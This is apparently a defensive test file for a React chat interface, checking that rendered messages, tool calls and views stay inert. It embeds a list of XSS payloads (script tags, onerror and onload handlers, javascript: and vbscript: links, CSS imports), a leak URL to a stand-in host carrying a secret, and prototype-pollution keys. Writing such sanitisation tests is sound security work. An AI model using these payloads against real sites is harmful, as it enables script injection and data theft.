import { cleanup, screen } from '@testing-library/react'
import { afterEach, beforeEach, expect, it, vi } from 'vitest'
import type { Part, ThreadDetail } from '../../../core/index.ts'
import { settle } from '../../agent/settle.fixtures.ts'
import { kitRegistry } from '../registry.ts'
import { drawChat, stubBrowser } from './draw-chat.fixtures.tsx'

beforeEach(stubBrowser)
afterEach(() => {
  cleanup()
  vi.unstubAllGlobals()
  localStorage.clear()
})

const LEAK = 'https://collect.test/p.png?q=SECRET'
const HOSTILE = [
  `<img src="${LEAK}" onerror="alert(1)"><script>alert(1)</script><iframe src="${LEAK}"></iframe>`,
  `![a](${LEAK}) ![a](//collect.test/x) [b](javascript:alert(1)) [c](java\tscript:alert(1)) [d](data:text/html,x)`,
  `![r][ref]\n\n[ref]: ${LEAK}\n\n<svg onload=alert(1)><style>@import "${LEAK}";</style>`,
  '[e](vbscript:x) <javascript:alert(1)> [f](&#106;avascript:alert(1)) [g](https://u:p@bank.test/)',
].join('\n\n')

const views: Part[] = [
  ['Image', { url: LEAK, alt: HOSTILE }],
  ['Text', { text: HOSTILE }],
  ['SourceCards', { items: [{ title: HOSTILE, url: 'javascript:alert(1)', image: LEAK, icon: LEAK }] }],
  ['DataTable', { columns: [{ key: 'a', label: HOSTILE }], rows: [{ a: HOSTILE }] }],
  ['KpiCards', { items: [{ label: HOSTILE, value: HOSTILE }] }],
  ['constructor', { text: HOSTILE }],
  ['__proto__', { text: HOSTILE }],
].map(([component, props], index) => ({
  type: 'ui',
  id: ['__proto__', 'constructor', HOSTILE][index] ?? `v${index}`,
  // Stored by whoever; the props are read again when they are drawn.
  component: component as string,
  props: props as Record<string, unknown>,
  version: 1,
  fallbackText: HOSTILE,
}))

const parts: Part[] = [
  { type: 'text', text: HOSTILE },
  { type: 'reasoning', text: HOSTILE },
  { type: 'tool', toolCallId: '__proto__', name: HOSTILE, title: HOSTILE, state: 'failed', message: HOSTILE },
  { type: 'tool', toolCallId: 'constructor', name: 'constructor', state: 'running', input: { a: HOSTILE } },
  {
    type: 'approval',
    approvalId: 'a1',
    toolCallId: 'c1',
    name: HOSTILE,
    input: JSON.parse(JSON.stringify({ [HOSTILE]: { deep: HOSTILE }, plain: HOSTILE })),
    expiresAt: Date.now() + 600_000,
    state: 'requested',
  },
  { type: 'warning', code: '__proto__', message: HOSTILE },
  ...views,
]

const thread: ThreadDetail = {
  id: 't1',
  title: HOSTILE,
  createdAt: 1,
  updatedAt: 2,
  messages: [
    { id: '__proto__', role: 'user', createdAt: 1, parts: [{ type: 'text', text: HOSTILE }] },
    {
      id: 'constructor',
      role: 'user',
      createdAt: 2,
      parts: [{ type: 'text', text: HOSTILE }],
      action: {
        viewId: HOSTILE,
        nodeId: HOSTILE,
        name: HOSTILE,
        message: HOSTILE,
        payload: { [HOSTILE]: HOSTILE },
        pressId: 'p',
      },
    },
    {
      id: 'toString',
      role: 'assistant',
      createdAt: 3,
      runId: 'r1',
      finish: { reason: 'error', error: { code: 'x', message: HOSTILE } },
      parts,
    },
  ],
}

it('draws hostile text everywhere as text, and fetches nothing', async () => {
  const { id, title, createdAt, updatedAt } = thread
  const { server, container } = drawChat({
    handlers: {
      'GET /threads/t1': () => Response.json(thread),
      'GET /threads': () => Response.json({ threads: [{ id, title, createdAt, updatedAt }] }),
    },
    provider: { threadId: 't1', registry: kitRegistry },
    chat: { suggestions: [{ label: HOSTILE }] },
  })
  await settle()
  expect(screen.getByRole('log').textContent).toContain('alert(1)')
  expect(screen.getByRole('button', { name: 'Allow' })).toBeTruthy()
  const loading = 'img, script, iframe, object, embed, link, style, video, audio, source, form[action], [src]'
  expect([...container.querySelectorAll(loading)].map((element) => element.outerHTML)).toEqual([])
  const addresses = [...container.querySelectorAll('[href]')].map((link) => link.getAttribute('href'))
  expect(
    addresses.filter((address) => address === null || !/^(https:\/\/collect\.test\/|#)/.test(address)),
  ).toEqual([])
  const handlers = [...container.querySelectorAll('*')].flatMap((element) =>
    element.getAttributeNames().filter((name) => name.startsWith('on')),
  )
  expect(handlers).toEqual([])
  expect(container.innerHTML).not.toMatch(/url\(/)
  expect(server.requests.map(({ path }) => path.split('?')[0]).sort()).toEqual(['/threads', '/threads/t1'])
})
